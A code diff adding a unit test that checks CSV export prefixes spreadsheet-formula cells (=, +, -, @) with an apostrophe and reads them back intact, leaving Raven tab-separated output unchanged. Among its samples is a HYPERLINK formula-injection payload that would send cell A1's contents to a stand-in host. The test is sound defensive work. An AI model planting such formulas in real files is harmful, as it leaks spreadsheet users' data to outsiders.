@@ -173,6 +173,21 @@ describe("readTable", () => {
     expect(read("csv")).toEqual(cells);
     expect(read("raven")).toEqual(["a b", 'say "hi"', "two lines", "x, y"]);
   });
+
+  it("writes a CSV cell a spreadsheet would run as a formula (=, +, -, @) after a ' — numbers as they are, Raven's cells untouched — and reads each back as it was", () => {
+    const header = ["Begin Time (s)", "End Time (s)", "@Notes"];
+    const cells = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-", "@SUM(A1)", "'=already guarded", "'plain", "-3.5", "1e-7"];
+    const lines = (format: "raven" | "csv") => [header, ...cells.map((c, i) => [String(i), String(i + 1), c])].map((r) => tableLine(format, r));
+    expect(lines("csv").map((l) => l.split(",").slice(2).join(","))).toEqual([
+      "'@Notes\r\n", `"'=HYPERLINK(""http://x.example/?""&A1)"\r\n`, "'+1+1\r\n", "'-\r\n", "'@SUM(A1)\r\n", "''=already guarded\r\n", "'plain\r\n", "-3.5\r\n", "1e-7\r\n",
+    ]);
+    expect(lines("raven")[1]).toBe('0\t1\t=HYPERLINK("http://x.example/?"&A1)\n');
+    for (const format of ["csv", "raven"] as const) {
+      const table = readTable(lines(format).join(""), { format });
+      expect(table.tagColumns).toEqual(["@Notes"]);
+      expect(table.selections.map((s) => s.tags[0]?.value)).toEqual(cells);
+    }
+  });
 });
 
 describe("POST /v1/clips/import, GET /v1/clips/export", () => {
